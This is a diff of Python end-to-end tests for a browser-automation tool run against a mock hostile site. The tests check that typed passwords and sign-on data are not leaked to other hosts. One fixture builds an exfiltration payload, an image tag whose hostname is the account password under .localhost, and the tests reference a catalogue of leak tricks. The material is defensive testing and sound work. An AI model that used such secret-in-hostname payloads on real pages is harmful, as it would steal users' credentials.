@@ -10,8 +10,10 @@ from playwright.sync_api import Page
 
 from e2e.courts.hostile import LEAKS, HostileCourt, Trick, hostile_court
 from e2e.courts.ways_out import UNSEEN
+from e2e.safety.linking_walk import beginning_at
 from e2e.walks.live import given, place, walk_live
 from e2e.walks.run import CommandResult, follow, impatient
+from mock_court.places import Place
 
 pytestmark = [pytest.mark.walk, pytest.mark.one_engine]
 
@@ -44,7 +46,10 @@ def test_a_sign_on_page_tells_nobody_what_was_typed(tmp_path: Path) -> None:
     known = ("own site", "frame to another site", "pop-up to another site")
     tricks = (*(name for name in LEAKS if not name.endswith(known)), *UNSEEN)
 
-    with hostile_court(Trick(on_typing=tricks, on_sign_on=tricks)) as court:
+    with (
+        hostile_court(Trick(on_typing=tricks, on_sign_on=tricks)) as court,
+        beginning_at("sign-on", {"sign-on": lambda: Place(court.sign_on)}),
+    ):
         walk_live(tmp_path, court, court.variables, "--until", "5")
 
     assert f"POST {court.sign_on}enter" in court.asked
@@ -67,23 +72,19 @@ def test_without_the_request_filter_it_tells_everybody(unlocked: Page) -> None:
 def test_what_was_refused_is_told_once_and_without_the_password(tmp_path: Path) -> None:
     leak = "image to nobody's host"
 
-    with hostile_court(Trick(on_typing=(leak,), loads=PICTURE)) as court:
+    with hostile_court() as court:
+        # A host may be called like the password.
+        secret = court.account.password.lower()
+        pictures = f"{PICTURE}<img src='http://{secret}.localhost/'>"
+        court.trick = Trick(on_typing=(leak,), loads=pictures)
         ran = walk_with_assets(court, tmp_path, ["cdn.test"], court.variables)
 
     notes = [note for step in ran.result["steps"] for note in step["notes"]]
-    assert [note for note in notes if "loaded" in note] == [TOLD]
-    assert TOLD in ran.step(1)["notes"]
+    hosts = "other.hostile.localhost, [secret in other capitals].localhost"
+    told = TOLD.replace("other.hostile.localhost", hosts)
+    assert [note for note in notes if "loaded" in note] == [told]
+    assert told in ran.step(1)["notes"]
     assert (ran.status, court.caught) == (0, [])
-
-
-def test_a_host_that_is_called_like_the_password_is_told_without_it(tmp_path: Path) -> None:
-    with hostile_court() as court:
-        secret = court.account.password.lower()
-        court.trick = Trick(loads=f"<img src='http://{secret}.localhost/'>")
-        ran = walk_live(tmp_path, court, court.variables, "--until", "5")
-
-    assert ran.status == 0
-    assert "Nothing was loaded from" in ran.output
     assert secret not in json.dumps(ran.result).lower()
 
 
